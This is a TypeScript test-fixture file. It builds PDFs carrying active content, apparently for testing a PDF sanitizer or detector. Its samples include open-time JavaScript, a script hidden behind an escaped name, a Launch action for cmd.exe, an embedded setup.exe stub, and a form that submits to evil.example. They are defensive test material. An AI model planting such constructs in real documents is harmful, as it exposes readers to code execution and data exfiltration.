import { PDFArray, PDFDict, PDFDocument, PDFHexString, PDFName, type PDFObject, PDFString } from "@cantoo/pdf-lib";

type Made = { document: PDFDocument; dict: (entries: Record<string, PDFObject | string>) => PDFDict };

/** A PDF with a text, changed by `change`. */
export async function pdf(
  text = "Arrival by the back door",
  change: (made: Made) => void | Promise<void> = () => undefined,
): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  document.setAuthor("Davit of the night desk");
  document.addPage([300, 300]).drawText(text, { x: 10, y: 200, size: 8 });
  const dict: Made["dict"] = (entries) => {
    const made = PDFDict.withContext(document.context);
    for (const [key, value] of Object.entries(entries)) made.set(PDFName.of(key), typeof value === "string" ? PDFName.of(value) : value);
    return made;
  };
  await change({ document, dict });
  return document.save({ addDefaultPage: false });
}

const list = (document: PDFDocument, ...values: PDFObject[]) => {
  const made = PDFArray.withContext(document.context);
  for (const value of values) made.push(value);
  return made;
};

const annotated = (entries: (made: Made) => Record<string, PDFObject | string>) => (made: Made) => {
  const { document, dict } = made;
  const rect = list(document, ...[0, 0, 300, 300].map((at) => document.context.obj(at)));
  document
    .getPage(0)
    .node.set(
      PDFName.of("Annots"),
      list(document, document.context.register(dict({ Type: "Annot", Subtype: "Link", Rect: rect, ...entries(made) }))),
    );
};

/** A link over the whole page. */
export const linkTo = (address: string) => annotated(({ dict }) => ({ A: dict({ S: "URI", URI: PDFString.of(address) }) }));

/** PDFs that run something or carry something, by what they do. */
export const activePdfs: Record<string, (made: Made) => void | Promise<void>> = {
  "a script when it opens": ({ document, dict }) =>
    document.catalog.set(PDFName.of("OpenAction"), dict({ S: "JavaScript", JS: PDFString.of("app.alert(1)") })),
  "a script by an escaped name": ({ document, dict }) =>
    document.catalog.set(PDFName.of("OpenAction"), dict({ S: "J#61vaScript", "J#53": PDFHexString.fromText("app.alert(1)") })),
  "a script of a name": ({ document }) => document.addJavaScript("main", "app.alert(1)"),
  "an embedded file": ({ document }) => document.attach(new Uint8Array([77, 90]), "setup.exe", { mimeType: "application/x-msdownload" }),
  "a program to start": annotated(({ dict }) => ({ A: dict({ S: "Launch", F: PDFString.of("cmd.exe") }) })),
  "a form that is sent": annotated(({ dict }) => ({ A: dict({ S: "SubmitForm", F: PDFString.of("https://evil.example") }) })),
  "a script after a step": annotated(({ dict }) => ({
    A: dict({ S: "GoTo", Next: dict({ S: "JavaScript", JS: PDFString.of("app.alert(1)") }) }),
  })),
  "a file on a page": annotated(() => ({ Subtype: "FileAttachment" })),
  media: annotated(() => ({ Subtype: "RichMedia" })),
  "a form of XFA": ({ document, dict }) => document.catalog.set(PDFName.of("AcroForm"), dict({ XFA: PDFString.of("<xdp/>") })),
};
